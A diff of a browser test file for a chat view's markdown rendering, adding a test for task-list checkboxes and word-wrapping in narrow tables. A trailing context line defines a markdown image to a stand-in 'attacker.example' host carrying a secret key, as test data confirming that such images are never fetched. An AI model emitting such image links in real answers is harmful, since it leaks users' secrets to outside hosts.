@@ -270,6 +270,30 @@ describe("links", () => {
     assert.deepEqual(await page.$$eval(`${body("l1")} a`, (els) => els.slice(4).map((a) => a.getAttribute("href"))), [null, null, null, null]);
     assert.deepEqual(await view.problems(), []);
   });
+  it("task list items show their checkbox where the bullet would be; table cells in a narrow view break between words, not inside them", async () => {
+    const text = ["- [x] parse the **roster**", "- [ ] retry with `backoff`", "- plain item", "", "| left | centered | right aligned column |", "|:--|:-:|--:|", "| `src/a.ts` | *edited* | 12 |"].join("\n");
+    const view = await openView(env.browser, env.server.origin, { open: openResult({ messages: [message({ id: "t1", text })] }), width: 300 });
+    const { page } = view;
+    await page.waitForSelector(`${body("t1")} table`);
+    const items = await page.$$eval(`${body("t1")} li`, (els) => els.map((li) => getComputedStyle(li).listStyleType));
+    assert.deepEqual(items, ["none", "none", "disc"], "no bullet beside a checkbox; a plain item keeps its bullet");
+    const split = await page.$$eval(`${body("t1")} th, ${body("t1")} td`, (cells) =>
+      cells.flatMap((cell) => {
+        const text = cell.textContent ?? "";
+        const node = cell.firstChild?.nodeType === Node.TEXT_NODE ? cell.firstChild : null;
+        if (!node) return [];
+        return [...text.matchAll(/\S+/g)].filter((m) => {
+          const range = document.createRange();
+          range.setStart(node, m.index ?? 0);
+          range.setEnd(node, (m.index ?? 0) + m[0].length);
+          return new Set([...range.getClientRects()].map((r) => Math.round(r.top))).size > 1;
+        }).map((m) => m[0]);
+      }),
+    );
+    assert.deepEqual(split, [], "no word is split across lines");
+    assert.deepEqual(await view.problems(), []);
+  });
+
   it("never fetches an answer's network image: it is a link to it, which opens through the host", async () => {
     const secret = "https://attacker.example/pixel.png?secret=API_KEY_123";
     const text = `Status: ![build badge](${secret}) ![](https://img.example/diagrams/flow%20chart.svg) ![dot](data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7)`;
